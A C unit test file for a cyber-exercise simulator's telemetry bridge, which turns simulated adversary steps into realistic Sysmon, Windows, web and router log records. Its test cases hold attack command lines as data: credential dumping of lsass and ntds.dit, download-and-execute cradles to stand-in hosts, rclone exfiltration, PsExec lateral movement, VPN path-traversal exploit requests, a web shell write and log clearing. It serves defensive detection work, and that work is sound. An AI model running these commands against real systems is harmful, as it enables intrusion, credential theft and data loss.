/* test_sim_bridge.c — the sim bridge: adversary steps become the records a
 * host's sensors would write, with truth = gt + 1 beside them and never in
 * them; a session-hiding router implant shows only as reloads; a whole sim
 * run through the bridge is deterministic. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/rng.h"
#include "sim/sim.h"
#include "sim_fixture.h"
#include "telemetry/sim_bridge.h"
#include "telemetry/telemetry.h"

typedef struct coll {
    uint64_t n, n_truth, hash;
    uint32_t max_truth;
    int truth_in_json;
    int eid1102_truth; /* truth of the 1102 record, 0: none */
    int cmdline_seen;  /* the procedure's command line in a Sysmon 1 */
    int device_login;  /* a device login record */
    int device_records;
} coll_t;

static int collect(void *ud, const sw_tel_record_t *r)
{
    coll_t *c = ud;
    c->n++;
    c->hash = sw_hash64(r->json, r->json_len, c->hash ? c->hash : SW_HASH64_INIT);
    c->hash = sw_hash64(&r->truth, sizeof r->truth, c->hash);
    if (r->truth) {
        c->n_truth++;
        if (r->truth > c->max_truth)
            c->max_truth = r->truth;
    }
    if (strstr(r->json, "truth") || strstr(r->json, "\"gt\""))
        c->truth_in_json = 1;
    if (r->event_id == 1102)
        c->eid1102_truth = (int)r->truth;
    if (r->source == SW_TEL_SYSMON && r->event_id == 1 && strstr(r->json, "wevtutil cl Security"))
        c->cmdline_seen = 1;
    if (r->source == SW_TEL_DEVICE) {
        c->device_records++;
        if (strstr(r->json, "LOGIN"))
            c->device_login = 1;
    }
    return 0;
}

static sw_tel_t *new_tel(const sw_world_t *w, coll_t *c)
{
    sw_tel_config_t cfg = {0};
    cfg.seed = 7;
    cfg.epoch_ms = 1700000000000LL;
    cfg.cb = collect;
    cfg.ud = c;
    sw_tel_t *tel = NULL;
    assert_int_equal(sw_tel_new(&tel, w, &cfg), 0);
    return tel;
}

static sw_sim_event_t step(uint32_t host, uint32_t src_host, const char *tech, const char *proc,
                           const char *tool, uint32_t gt, int64_t at_ms)
{
    sw_sim_event_t ev;
    memset(&ev, 0, sizeof ev);
    ev.type = SW_SEV_STEP;
    ev.at_ms = at_ms;
    ev.host = host;
    ev.src_host = src_host;
    ev.adversary = 0;
    ev.gt = gt;
    ev.cause = SW_NONE;
    ev.outcome = SW_OUT_SUCCESS;
    ev.technique = tech;
    ev.procedure = proc;
    ev.tool = tool;
    return ev;
}

static void log_clear_writes_1102_under_the_attackers_process(void **state)
{
    (void)state;
    sw_world_t *w = fx_world();
    w->hosts[FX_DC].sensors.sysmon = 1;
    coll_t c = {0};
    sw_tel_t *tel = new_tel(w, &c);
    sw_tel_bridge_t *b = NULL;
    assert_int_equal(sw_tel_bridge_new(&b, tel, NULL), 0);
    sw_sim_event_t ev =
        step(FX_DC, FX_WS1, "T1070.001", "wevtutil cl Security", "wevtutil.exe", 6, 60000);
    ev.account = "alice";
    ev.src_ip = w->hosts[FX_WS1].ip_text;
    ev.dst_ip = w->hosts[FX_DC].ip_text;
    ev.dst_port = 445;
    assert_int_equal(sw_tel_bridge_event(b, &ev), 0);
    assert_int_equal(c.eid1102_truth, 7); /* gt + 1 */
    assert_true(c.cmdline_seen);
    assert_false(c.truth_in_json);
    assert_int_equal(sw_tel_bridge_steps(b), 1);
    sw_tel_bridge_free(b);
    sw_tel_free(tel);
    fx_free(w);
}

static void router_implant_hides_its_logins(void **state)
{
    (void)state;
    sw_world_t *w = fx_world();
    w->hosts[FX_RTR].sensors.syslog = 1;
    coll_t c = {0};
    sw_tel_t *tel = new_tel(w, &c);
    sw_tel_bridge_t *b = NULL;
    assert_int_equal(sw_tel_bridge_new(&b, tel, NULL), 0);
    sw_sim_event_t ev = step(FX_RTR, SW_NONE, "T1542.005", "copy tftp: flash:", "ssh", 0, 60000);
    ev.account = "admin";
    assert_int_equal(sw_tel_bridge_event(b, &ev), 0);
    assert_false(c.device_login);
    assert_true(c.device_records > 0); /* the odd reload */
    assert_int_equal(c.max_truth, 1);
    int before = c.device_records;
    ev = step(FX_RTR, FX_RTR, "T1562", "no logging host 10.0.0.5", "ssh", 1, 120000);
    ev.account = "admin";
    assert_int_equal(sw_tel_bridge_event(b, &ev), 0);
    assert_int_equal(c.device_records, before); /* hidden: nothing more */
    assert_false(c.device_login);
    sw_tel_bridge_free(b);
    sw_tel_free(tel);
    fx_free(w);
}

/* ---- one step, the record it must leave (data) ------------------------------ */

typedef struct rec_list {
    struct {
        sw_tel_source_t src;
        int eid;
        uint32_t truth, host;
        char *json;
    } v[4096];
    size_t n;
} rec_list_t;

static int keep(void *ud, const sw_tel_record_t *r)
{
    rec_list_t *l = ud;
    if (l->n < sizeof l->v / sizeof l->v[0]) {
        l->v[l->n].src = r->source;
        l->v[l->n].eid = r->event_id;
        l->v[l->n].truth = r->truth;
        l->v[l->n].host = r->host;
        l->v[l->n].json = strndup(r->json, r->json_len);
        l->n++;
    }
    return 0;
}

typedef struct step_case {
    const char *name;
    uint32_t host, src_host;
    const char *technique, *procedure, *tool, *account;
    uint16_t port;
    sw_tel_source_t src; /* a record of this source and event id ... */
    int eid;             /* (0: any) */
    const char *needle;  /* ... containing this text, with the step's truth */
    const char *needle2; /* and this (NULL: no second) */
} step_case_t;

#define WIN_PREP(w)                                                                                \
    do {                                                                                           \
        for (uint32_t h_ = 0; h_ < (w)->n_hosts; h_++) {                                           \
            (w)->hosts[h_].sensors.sysmon = (w)->hosts[h_].os_family == SW_OSF_WINDOWS;            \
            (w)->hosts[h_].sensors.av = 1;                                                         \
            (w)->hosts[h_].sensors.edr = (w)->hosts[h_].os_family == SW_OSF_WINDOWS;               \
            (w)->hosts[h_].sensors.pcap = h_ == FX_RTR;                                            \
            (w)->hosts[h_].sensors.syslog = h_ == FX_RTR;                                          \
        }                                                                                          \
    } while (0)

static const step_case_t step_cases[] = {
    {"ntdsutil IFM writes ntds.dit", FX_DC, FX_DC, "T1003.003",
     "ntdsutil \"ac i ntds\" \"ifm\" \"create full c:\\temp\" q q", "ntdsutil.exe", "alice", 0,
     SW_TEL_SYSMON, 11, "c:\\\\temp\\\\Active Directory\\\\ntds.dit", "ntdsutil.exe"},
    {"netsh portproxy sets the PortProxy key", FX_DC, FX_DC, "T1090.001",
     "netsh interface portproxy add v4tov4 listenport=9999 listenaddress=0.0.0.0 connectport=8443 "
     "connectaddress=10.1.2.3",
     "netsh.exe", "alice", 0, SW_TEL_SYSMON, 13,
     "SYSTEM\\\\CurrentControlSet\\\\Services\\\\PortProxy\\\\v4tov4\\\\tcp\\\\0.0.0.0/9999",
     "10.1.2.3/8443"},
    {"Run key persistence", FX_WS1, FX_WS1, "T1547.001",
     "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater /d "
     "C:\\Users\\Public\\u.exe /f",
     "reg.exe", "alice", 0, SW_TEL_SYSMON, 13, "CurrentVersion\\\\Run\\\\Updater",
     "C:\\\\Users\\\\Public\\\\u.exe"},
    {"comsvcs MiniDump writes the dump", FX_FS, FX_FS, "T1003.001",
     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Windows\\Temp\\lsass.dmp "
     "full",
     "rundll32.exe", "alice", 0, SW_TEL_SYSMON, 11, "lsass.dmp", NULL},
    {"ransomware writes encrypted copies and notes", FX_FS, FX_FS, "T1486",
     "C:\\Windows\\locker.exe -path C:\\ -ext .reef -note README-REEF.txt", "locker.exe", "alice",
     0, SW_TEL_SYSMON, 11, "README-REEF.txt", NULL},
    {"ransomware: encrypted copy", FX_FS, FX_FS, "T1486",
     "C:\\Windows\\locker.exe -path C:\\ -ext .reef -note README-REEF.txt", "locker.exe", "alice",
     0, SW_TEL_SYSMON, 11, ".xlsx.reef", NULL},
    {"ransomware renames each file (an EDR's Kernel-File rename)", FX_FS, FX_FS, "T1486",
     "C:\\Windows\\locker.exe -path C:\\ -ext .reef -note README-REEF.txt", "locker.exe", "alice",
     0, SW_TEL_KERNEL_FILE, 27,
     "\"SourceFilename\":\"C:\\\\Users\\\\Public\\\\Documents\\\\budget_2026.xlsx\"",
     "\"TargetFilename\":\"C:\\\\Users\\\\Public\\\\Documents\\\\budget_2026.xlsx.reef\""},
    {"7z -sdel deletes what it packed (Sysmon 26)", FX_FS, FX_FS, "T1486",
     "7z.exe a -pX -mhe=on -sdel Z:\\locked.7z Z:\\*", "7z.exe", "alice", 0, SW_TEL_SYSMON, 26,
     "\"TargetFilename\":\"Z:\\\\budget_2026.xlsx\"", "7z.exe"},
    {"wevtutil cl System clears the System log (104)", FX_DC, FX_DC, "T1070.001",
     "wevtutil cl System", "wevtutil.exe", "alice", 0, SW_TEL_SYSTEM, 104, "\"Channel\":\"System\"",
     NULL},
    {"AV names a known tool", FX_WS1, FX_WS1, "T1558.003",
     "Rubeus.exe kerberoast /outfile:C:\\Users\\Public\\h.txt", "Rubeus.exe", "alice", 0,
     SW_TEL_DEFENDER, 1116, "HackTool:MSIL/Rubeus", NULL},
    {"kerberoasting asks for RC4 tickets", FX_WS1, FX_WS1, "T1558.003",
     "Rubeus.exe kerberoast /outfile:C:\\Users\\Public\\h.txt", "Rubeus.exe", "alice", 0,
     SW_TEL_SECURITY, 4769, "0x17", NULL},
    {"phishing: the lure through the mail gateway", FX_WS1, SW_NONE, "T1566.001",
     "Invoice_0412.zip -> Invoice_0412.pdf.lnk -> powershell.exe -w hidden -nop -c \"iwr "
     "https://invoices-portal.example/i.ps1 | iex\"",
     "powershell.exe", "alice", 0, SW_TEL_MAIL, 0, "Invoice_0412.zip", "alice@gov."},
    {"phishing: a document lure runs under Word", FX_WS1, SW_NONE, "T1566.001",
     "Offer.docm -> cmd.exe /c certutil -urlcache -f http://x.example/a.exe a.exe", "cmd.exe",
     "alice", 0, SW_TEL_SYSMON, 1, "WINWORD.EXE", "certutil"},
    {"phishing: the payload calls home (DNS)", FX_WS1, SW_NONE, "T1566.001",
     "Invoice_0412.zip -> Invoice_0412.pdf.lnk -> powershell.exe -w hidden -nop -c \"iwr "
     "https://invoices-portal.example/i.ps1 | iex\"",
     "powershell.exe", "alice", 0, SW_TEL_SYSMON, 22, "invoices-portal.example", NULL},
    {"exfiltration goes through the proxy", FX_FS, FX_FS, "T1567.002",
     "rclone.exe copy \\\\FS\\Finance mega:fin -q", "rclone.exe", "alice", 0, SW_TEL_ZEEK_DNS, 0,
     "g.api.mega.co.nz", NULL},
    {"PsExec: PSEXESVC installed on the target", FX_FS, FX_WS1, "T1021.002",
     "PsExec.exe \\\\FILESERVER -u DOMAIN\\svc_backup -p x -s cmd.exe", "PsExec.exe", "alice", 445,
     SW_TEL_SYSTEM, 7045, "PSEXESVC", NULL},
    {"PsExec: the client runs on the source", FX_FS, FX_WS1, "T1021.002",
     "PsExec.exe \\\\FILESERVER -u DOMAIN\\svc_backup -p x -s cmd.exe", "PsExec.exe", "alice", 445,
     SW_TEL_SYSMON, 1, "ws01", "PsExec.exe \\\\\\\\FILESERVER"},
    {"wmic /node: WmiPrvSE runs the command on the target", FX_DC, FX_WS1, "T1047",
     "wmic /node:DC /user:DOMAIN\\adm process call create \"cmd.exe /c ipconfig /all\"", "wmic.exe",
     "alice", 135, SW_TEL_SYSMON, 1, "WmiPrvSE.exe", "ipconfig /all"},
    {"exploit: the request in the access log", FX_WEB, SW_NONE, "T1190",
     "curl -sk \"https://VPN/api/v1/totp/user-backup-code/../../system/x\" -d '{}'", "curl", NULL,
     443, SW_TEL_WEB, 0, "POST /api/v1/totp/user-backup-code/../../system/x", NULL},
    {"exploit: a signature sees it", FX_WEB, SW_NONE, "T1190",
     "curl -sk \"https://VPN/api/v1/totp/user-backup-code/../../system/x\" -d '{}'", "curl", NULL,
     443, SW_TEL_SURICATA, 0, "CVE-2024-21887", "Attempted Administrator Privilege Gain"},
    {"an appliance's portal logs the exploit's request (no login)", FX_VPN, SW_NONE, "T1190",
     "curl -sk \"https://VPN/dana-na/../x.cgi\"", "curl", NULL, 443, SW_TEL_WEB, 0,
     "GET /dana-na/../x.cgi", "curl/8.4.0"},
    {"a web shell on an appliance is tried once", FX_VPN, FX_VPN, "T1505.003",
     "echo x > /home/webserver/htdocs/dana-na/auth/lastauthserverused.cgi", "sh", NULL, 0,
     SW_TEL_WEB, 0, "/dana-na/auth/lastauthserverused.cgi", NULL},
    {"a placeholder names the scenario's domain controller", FX_WS1, FX_WS1, "T1047",
     "wmic /node:{dc} process list brief", "wmic.exe", "alice", 0, SW_TEL_SYSMON, 1,
     "wmic /node:dc01 process list brief", NULL},
    {"comsvcs MiniDump opens lsass (Sysmon 10)", FX_FS, FX_FS, "T1003.001",
     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass_pid} "
     "C:\\Windows\\Temp\\l.dmp full",
     "rundll32.exe", "alice", 0, SW_TEL_SYSMON, 10, "\\lsass.exe", "0x1fffff"},
    {"comsvcs MiniDump loads comsvcs.dll (Sysmon 7)", FX_FS, FX_FS, "T1003.001",
     "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass_pid} "
     "C:\\Windows\\Temp\\l.dmp full",
     "rundll32.exe", "alice", 0, SW_TEL_SYSMON, 7, "comsvcs.dll", NULL},
    {"PsExec: its service creates the PSEXESVC pipe", FX_FS, FX_WS1, "T1021.002",
     "PsExec.exe \\\\{fileserver} -u {domain}\\svc_backup -p x -s cmd.exe", "PsExec.exe", "alice",
     445, SW_TEL_SYSMON, 17, "\\\\PSEXESVC", NULL},
    {"net.exe hands the query to net1.exe", FX_WS1, FX_WS1, "T1087.002",
     "net group \"Domain Admins\" /dom", "net.exe", "alice", 0, SW_TEL_SYSMON, 1, "net1.exe",
     "Domain Admins"},
    {"an admin share is a connection to port 445 of the host it names", FX_WS1, FX_WS1, "T1005",
     "cmd.exe /C copy \\\\{fileserver}\\C$\\x.txt C:\\Users\\Public\\x.txt", "cmd.exe", "alice", 0,
     SW_TEL_SYSMON, 3, "\"DestinationPort\":445", "fs01"},
    {"certutil's download looks the host up (Sysmon 22)", FX_WS1, FX_WS1, "T1105",
     "certutil -urlcache -split -f http://files.{c2}/a.txt C:\\Users\\Public\\a.txt",
     "certutil.exe", "alice", 0, SW_TEL_SYSMON, 22, "files.", NULL},
    {"{{default}} is bcdedit's own brace pair, not a placeholder", FX_WS1, FX_WS1, "T1490",
     "bcdedit /set {{default}} recoveryenabled No", "bcdedit.exe", "alice", 0, SW_TEL_SYSMON, 1,
     "bcdedit /set {default} recoveryenabled No", NULL},
    {"a placeholder after a path's backslash", FX_WS1, FX_WS1, "T1083",
     "cmd.exe /C dir C:\\Users\\{user}\\Documents", "cmd.exe", "alice", 0, SW_TEL_SYSMON, 1,
     "C:\\\\Users\\\\alice\\\\Documents", NULL},
    {"exploit: the web server spawns a shell", FX_WEB, SW_NONE, "T1190",
     "curl -sk \"https://VPN/api/v1/totp/user-backup-code/../../system/x\" -d '{}'", "curl", NULL,
     443, SW_TEL_AUDITD, 0, "/bin/sh", NULL},
};

static void each_technique_leaves_its_records(void **state)
{
    (void)state;
    size_t failures = 0;
    for (size_t k = 0; k < sizeof step_cases / sizeof step_cases[0]; k++) {
        const step_case_t *sc = &step_cases[k];
        sw_world_t *w = fx_world();
        fx_add_apt(w);
        WIN_PREP(w);
        rec_list_t *l = calloc(1, sizeof *l);
        assert_non_null(l);
        sw_tel_config_t cfg = {.seed = 7, .epoch_ms = 1700000000000LL, .cb = keep, .ud = l};
        sw_tel_t *tel = NULL;
        assert_int_equal(sw_tel_new(&tel, w, &cfg), 0);
        sw_tel_bridge_t *b = NULL;
        assert_int_equal(sw_tel_bridge_new(&b, tel, NULL), 0);
        /* a foothold on the source first, for the client-side tools */
        if (sc->src_host != SW_NONE && sc->src_host != sc->host) {
            sw_sim_event_t f0 =
                step(sc->src_host, sc->src_host, "T1059.003", "whoami", "whoami.exe", 2, 30000);
            f0.account = sc->account;
            assert_int_equal(sw_tel_bridge_event(b, &f0), 0);
        }
        sw_sim_event_t ev =
            step(sc->host, sc->src_host, sc->technique, sc->procedure, sc->tool, 4, 120000);
        ev.account = sc->account;
        ev.src_ip = sc->src_host == SW_NONE ? "203.0.113.45" : w->hosts[sc->src_host].ip_text;
        ev.dst_ip = w->hosts[sc->host].ip_text;
        ev.dst_port = sc->port;
        assert_int_equal(sw_tel_bridge_event(b, &ev), 0);
        int found = 0;
        for (size_t i = 0; i < l->n && !found; i++)
            found = l->v[i].src == sc->src && (!sc->eid || l->v[i].eid == sc->eid) &&
                    l->v[i].truth == 5 && strstr(l->v[i].json, sc->needle) &&
                    (!sc->needle2 || strstr(l->v[i].json, sc->needle2));
        if (!found) {
            failures++;
            print_error("%s: no %s %d record with '%s'%s%s (truth 5); records were:\n", sc->name,
                        sw_tel_source_names[sc->src], sc->eid, sc->needle,
                        sc->needle2 ? " and " : "", sc->needle2 ? sc->needle2 : "");
            for (size_t i = 0; i < l->n; i++)
                if (l->v[i].truth == 5)
                    print_error("  %s %d %.300s\n", sw_tel_source_names[l->v[i].src], l->v[i].eid,
                                l->v[i].json);
        }
        for (size_t i = 0; i < l->n; i++) {
            if (strstr(l->v[i].json, "truth"))
                fail_msg("truth inside a record: %s", l->v[i].json);
            free(l->v[i].json);
        }
        free(l);
        sw_tel_bridge_free(b);
        sw_tel_free(tel);
        fx_free(w);
    }
    assert_int_equal(failures, 0);
}

/* Non-step events: a reimage writes shutdown and boot records, an
 * isolated host's traffic disappears, a cable cut shows on the router. */
static void defender_actions_and_links_change_what_is_logged(void **state)
{
    (void)state;
    sw_world_t *w = fx_world();
    fx_add_apt(w);
    WIN_PREP(w);
    w->hosts[FX_MAIL].sensors.sysmon = 0; /* until enhanced logging */
    rec_list_t *l = calloc(1, sizeof *l);
    assert_non_null(l);
    sw_tel_config_t cfg = {.seed = 7, .epoch_ms = 1700000000000LL, .cb = keep, .ud = l};
    sw_tel_t *tel = NULL;
    assert_int_equal(sw_tel_new(&tel, w, &cfg), 0);
    sw_tel_bridge_t *b = NULL;
    assert_int_equal(sw_tel_bridge_new(&b, tel, NULL), 0);
    sw_sim_event_t ev;
    memset(&ev, 0, sizeof ev);
    ev.host = FX_FS;
    ev.link = ev.src_host = ev.adversary = ev.gt = ev.cause = SW_NONE;
    ev.action = -1;
    ev.type = SW_SEV_HOST_DOWN;
    ev.at_ms = 60000;
    ev.detail = "reimage";
    assert_int_equal(sw_tel_bridge_event(b, &ev), 0);
    ev.type = SW_SEV_HOST_UP;
    ev.at_ms = 600000;
    assert_int_equal(sw_tel_bridge_event(b, &ev), 0);
    int saw_1074 = 0, saw_6005 = 0, saw_4608 = 0;
    for (size_t i = 0; i < l->n; i++) {
        saw_1074 |= l->v[i].host == FX_FS && l->v[i].eid == 1074;
        saw_6005 |= l->v[i].host == FX_FS && l->v[i].eid == 6005;
        saw_4608 |= l->v[i].host == FX_FS && l->v[i].eid == 4608;
    }
    assert_true(saw_1074 && saw_6005 && saw_4608);
    /* enhanced logging on a host without Sysmon: Sysmon 4 "Started" */
    ev.type = SW_SEV_ACTION;
    ev.action = SW_ACT_ENHANCED_LOGGING;
    ev.host = FX_MAIL;
    ev.at_ms = 700000;
    size_t n0 = l->n;
    assert_int_equal(sw_tel_bridge_event(b, &ev), 0);
    int started = 0;
    for (size_t i = n0; i < l->n; i++)
        started |= l->v[i].host == FX_MAIL && l->v[i].src == SW_TEL_SYSMON && l->v[i].eid == 4 &&
                   strstr(l->v[i].json, "Started") != NULL;
    assert_true(started);
    /* an implant on WS1, then isolation: its C2 beacon leaves no record */
    sw_sim_event_t st =
        step(FX_WS1, FX_WS1, "T1059.001", "powershell -nop -w hidden", "powershell.exe", 3, 750000);
    st.account = "alice";
    assert_int_equal(sw_tel_bridge_event(b, &st), 0);
    ev.type = SW_SEV_HOST_ISOLATED;
    ev.host = FX_WS1;
    ev.action = -1;
    assert_int_equal(sw_tel_bridge_event(b, &ev), 0);
    ev.type = SW_SEV_C2_UP;
    ev.adversary = 0;
    ev.domain = "c2.example.net";
    ev.dst_ip = "203.0.113.9";
    ev.dst_port = 443;
    ev.at_ms = 800000;
    n0 = l->n;
    assert_int_equal(sw_tel_bridge_event(b, &ev), 0);
    assert_int_equal(l->n, n0);
    ev.type = SW_SEV_HOST_RELEASED;
    assert_int_equal(sw_tel_bridge_event(b, &ev), 0);
    ev.type = SW_SEV_C2_UP;
    ev.at_ms = 900000;
    assert_int_equal(sw_tel_bridge_event(b, &ev), 0);
    int dns = 0;
    for (size_t i = n0; i < l->n; i++)
        dns |= l->v[i].src == SW_TEL_SYSMON && l->v[i].eid == 22 &&
               strstr(l->v[i].json, "c2.example.net") != NULL;
    assert_true(dns);
    /* the org's primary cable goes down: the edge router logs it */
    ev.type = SW_SEV_LINK_DOWN;
    ev.host = SW_NONE;
    ev.link = w->orgs[0].intl_primary.ids[0];
    ev.at_ms = 1000000;
    n0 = l->n;
    assert_int_equal(sw_tel_bridge_event(b, &ev), 0);
    int updown = 0, bgp = 0;
    for (size_t i = n0; i < l->n; i++) {
        updown |= l->v[i].host == FX_RTR && strstr(l->v[i].json, "%LINK-3-UPDOWN") != NULL;
        bgp |= l->v[i].host == FX_RTR && strstr(l->v[i].json, "%BGP-5-ADJCHANGE") != NULL;
    }
    assert_true(updown && bgp);
    /* the defenders fail over: the NOC's change on the edge router */
    ev.type = SW_SEV_ACTION;
    ev.action = SW_ACT_FAILOVER;
    ev.org = 0;
    ev.team = w->orgs[0].team;
    ev.at_ms = 1100000;
    n0 = l->n;
    assert_int_equal(sw_tel_bridge_event(b, &ev), 0);
    int change = 0;
    for (size_t i = n0; i < l->n; i++)
        change |= l->v[i].host == FX_RTR && strstr(l->v[i].json, "weight 200") != NULL;
    assert_true(change);
    for (size_t i = 0; i < l->n; i++)
        free(l->v[i].json);
    free(l);
    sw_tel_bridge_free(b);
    sw_tel_free(tel);
    fx_free(w);
}

static uint64_t sim_run(coll_t *c, uint32_t *n_gt)
{
    sw_world_t *w = fx_world();
    fx_add_apt(w);
    for (uint32_t h = 0; h < w->n_hosts; h++)
        w->hosts[h].sensors.sysmon = w->hosts[h].os_family == SW_OSF_WINDOWS;
    sw_tel_t *tel = new_tel(w, c);
    sw_tel_bridge_t *b = NULL;
    assert_int_equal(sw_tel_bridge_new(&b, tel, NULL), 0);
    sw_sim_t *sim = sw_sim_new(w, 42, sw_tel_bridge_sim_cb, b);
    assert_non_null(sim);
    for (int64_t t = 60000; t <= w->exercise.duration_ms; t += 60000)
        assert_int_equal(sw_sim_run_until(sim, t), 0);
    assert_int_equal(sw_tel_bridge_error(b), 0);
    *n_gt = sw_sim_gt_count(sim);
    assert_true(sw_tel_bridge_steps(b) > 0);
    sw_sim_free(sim);
    sw_tel_bridge_free(b);
    sw_tel_free(tel);
    fx_free(w);
    return c->hash;
}

static void a_sim_run_through_the_bridge_is_deterministic_and_truthful(void **state)
{
    (void)state;
    coll_t a = {0}, b = {0};
    uint32_t n_gt = 0;
    uint64_t h1 = sim_run(&a, &n_gt);
    uint64_t h2 = sim_run(&b, &n_gt);
    assert_int_equal(h1, h2);
    assert_int_equal(a.n, b.n);
    assert_true(a.n_truth > 0);
    assert_true(a.max_truth >= 1 && a.max_truth <= n_gt); /* gt + 1, in range */
    assert_false(a.truth_in_json);
}

/* ---- bursts ------------------------------------------------------------------ */

static const char BURST[] = "ipconfig /all                 # T1016\n"
                            "# read the output, then:\n"
                            "netstat -ano                  # T1049\n"
                            "net group \"Domain Admins\" /dom  # T1087.002\n"
                            "tasklist /v\n"
                            "wmic /node:{dc} os get caption\n";

/* The burst step on ws01, advanced to t_end in steps of `chunk` ms. */
static void burst_run(rec_list_t *l, int64_t chunk, int64_t t_end)
{
    sw_world_t *w = fx_world();
    fx_add_apt(w);
    WIN_PREP(w);
    sw_tel_config_t cfg = {.seed = 7, .epoch_ms = 1700000000000LL, .cb = keep, .ud = l};
    sw_tel_t *tel = NULL;
    assert_int_equal(sw_tel_new(&tel, w, &cfg), 0);
    sw_tel_bridge_t *b = NULL;
    assert_int_equal(sw_tel_bridge_new(&b, tel, NULL), 0);
    sw_sim_event_t f0 = step(FX_WS1, FX_WS1, "T1059.003", "whoami", "whoami.exe", 2, 30000);
    f0.account = "alice";
    assert_int_equal(sw_tel_bridge_event(b, &f0), 0);
    sw_sim_event_t st = step(FX_WS1, FX_WS1, "T1082", BURST, "cmd.exe", 4, 60000);
    st.type = SW_SEV_STEP_START;
    st.account = "alice";
    st.value = 10 * 60000; /* the step's duration */
    assert_int_equal(sw_tel_bridge_event(b, &st), 0);
    for (int64_t t = 60000; t < t_end; t += chunk)
        assert_int_equal(sw_tel_bridge_advance(b, t + chunk < t_end ? t + chunk : t_end), 0);
    size_t before = l->n;
    st.type = SW_SEV_STEP; /* the step ends: its commands ran already */
    st.at_ms = t_end;
    assert_int_equal(sw_tel_bridge_event(b, &st), 0);
    assert_int_equal(l->n, before);
    sw_tel_bridge_free(b);
    sw_tel_free(tel);
    fx_free(w);
}

static const char *field(const char *json, const char *name, char *out, size_t n)
{
    char key[64];
    snprintf(key, sizeof key, "\"%s\":", name);
    const char *p = strstr(json, key);
    out[0] = 0;
    if (!p)
        return out;
    p += strlen(key);
    if (*p == '"')
        p++;
    size_t len = strcspn(p, "\",}");
    snprintf(out, n, "%.*s", (int)len, p);
    return out;
}

static void a_burst_runs_its_commands_under_one_shell_over_the_step(void **state)
{
    (void)state;
    rec_list_t *l = calloc(1, sizeof *l), *l2 = calloc(1, sizeof *l2);
    assert_non_null(l);
    assert_non_null(l2);
    burst_run(l, 11 * 60000, 71 * 60000);
    static const char *const cmds[] = {"ipconfig /all", "netstat -ano", "net group", "tasklist /v",
                                       "wmic /node:dc01 os get caption"};
    char parent[16] = "", p2[16], t1[40] = "", t2[40];
    int n_seen = 0, net1 = 0;
    for (size_t k = 0; k < sizeof cmds / sizeof cmds[0]; k++)
        for (size_t i = 0; i < l->n; i++) {
            if (l->v[i].src != SW_TEL_SYSMON || l->v[i].eid != 1 || l->v[i].truth != 5 ||
                !strstr(l->v[i].json, cmds[k]) || strstr(l->v[i].json, "net1"))
                continue;
            n_seen++;
            field(l->v[i].json, "ParentProcessId", p2, sizeof p2);
            if (!parent[0])
                snprintf(parent, sizeof parent, "%s", p2);
            if (strcmp(parent, p2))
                fail_msg("'%s' under parent %s, the burst's shell is %s", cmds[k], p2, parent);
            field(l->v[i].json, "UtcTime", t2, sizeof t2);
            if (strcmp(t2, t1) <= 0)
                fail_msg("'%s' at %s, not after the command before it (%s)", cmds[k], t2, t1);
            snprintf(t1, sizeof t1, "%s", t2);
            break;
        }
    for (size_t i = 0; i < l->n; i++)
        net1 += l->v[i].eid == 1 && strstr(l->v[i].json, "net1.exe") != NULL;
    assert_int_equal(n_seen, 5); /* every command, the comment line none */
    assert_int_equal(net1, 1);
    /* spread over minutes, inside the step's ten */
    assert_true(strcmp(t1, "2023-11-14 22:14:21") > 0 && strcmp(t1, "2023-11-14 22:24:20") < 0);
    /* the same records however the advance is chunked */
    burst_run(l2, 7001, 71 * 60000);
    assert_int_equal(l->n, l2->n);
    for (size_t i = 0; i < l->n; i++) {
        assert_string_equal(l->v[i].json, l2->v[i].json);
        free(l->v[i].json);
        free(l2->v[i].json);
    }
    free(l);
    free(l2);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(log_clear_writes_1102_under_the_attackers_process),
        cmocka_unit_test(router_implant_hides_its_logins),
        cmocka_unit_test(each_technique_leaves_its_records),
        cmocka_unit_test(defender_actions_and_links_change_what_is_logged),
        cmocka_unit_test(a_sim_run_through_the_bridge_is_deterministic_and_truthful),
        cmocka_unit_test(a_burst_runs_its_commands_under_one_shell_over_the_step),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
